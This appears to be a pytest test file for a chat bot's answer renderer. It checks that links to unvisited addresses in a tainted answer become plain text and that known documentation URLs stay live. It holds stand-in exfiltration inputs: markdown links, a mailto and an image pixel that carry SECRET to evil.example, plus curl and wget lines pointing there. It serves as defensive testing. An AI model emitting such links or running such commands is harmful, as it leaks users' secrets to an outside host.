"""In a tainted answer only addresses that the session came by are live."""

import re

import pytest

from bot.render import answer_drafts

KNOWN = "https://docs.example/guide?page=1&part=2"
EVIL = "evil.example/collect?d=SECRET"
LIVE = re.compile(r"<(?:https?|mailto):|(?<![`\w])(?:https?://|mailto:)")


def shown(markdown: str) -> str:
    return "\n".join(draft.text for draft in answer_drafts(markdown, lambda url: url == KNOWN))


@pytest.mark.parametrize(
    "markdown",
    [
        f"[a free gift](https://{EVIL})",
        f"Look at https://{EVIL}.",
        f"(https://{EVIL})",
        f"<https://{EVIL}>",
        f"**https://{EVIL}**",
        f"[docs.example](http://{EVIL})",
        f"> quoted [x](https://{EVIL})",
        f"- https://{EVIL}\n- two",
        "[write](mailto:a@evil.example?body=SECRET)",
        f"![pixel](https://{EVIL})",
        f"HTTPS://{EVIL}",
    ],
)
def test_an_unknown_address_is_text_and_its_domain_is_seen(markdown: str) -> None:
    text = shown(markdown)
    assert not LIVE.search(re.sub(r"`[^`]*`", "", text)), text
    assert "evil.example" in text


@pytest.mark.parametrize("markdown", [f"[the guide]({KNOWN})", f"See {KNOWN}.", f"<{KNOWN}>"])
def test_an_address_that_the_session_came_by_stays_live(markdown: str) -> None:
    assert "docs.example/guide?page=1&amp;part=2" in shown(markdown)
    assert "`" not in shown(markdown)


def test_code_stays_as_it_was_written() -> None:
    text = shown(f"`curl https://{EVIL}`\n\n```\nwget https://{EVIL}\n```")
    assert f"`curl https://{EVIL}`" in text
    assert f"wget https://{EVIL}" in text


def test_without_a_rule_everything_stays_live() -> None:
    [draft] = answer_drafts(f"[gift](https://{EVIL})")
    assert f"<https://{EVIL}|gift>" in draft.text
